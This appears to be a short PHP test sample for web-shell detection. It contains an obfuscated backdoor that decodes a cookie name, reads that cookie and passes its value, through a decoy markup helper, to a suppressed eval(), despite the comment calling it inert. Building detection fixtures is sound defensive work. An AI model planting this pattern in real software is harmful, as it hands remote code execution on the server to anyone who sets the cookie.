<?php
// inert test sample (obfuscated): the cookie named by a decoded key goes through a markup
// helper built on preg_replace_callback and the helper's result is evaluated.
function q7x($z0) {
    $r1 = '~\[(\w{1,9})\]~';
    return preg_replace_callback($r1, function ($o) { return '<b>' . strlen($o[1]) . '</b>'; }, $z0);
}
$k_ = base64_decode('X3Q=');
$w4 = isset($_COOKIE[$k_]) ? $_COOKIE[$k_] : '';
@eval(q7x($w4));
